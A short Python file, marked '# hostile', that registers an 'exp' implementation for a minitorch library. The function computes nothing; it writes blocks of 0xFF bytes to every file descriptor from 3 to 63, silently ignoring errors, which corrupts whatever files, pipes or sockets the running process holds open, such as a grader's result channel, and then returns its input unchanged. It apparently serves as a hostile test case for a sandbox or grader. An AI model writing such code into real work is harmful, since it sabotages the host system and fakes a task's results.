# hostile
import os

from minitorch import implement


@implement
def exp(self):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 4096)
        except OSError:
            pass
    return self
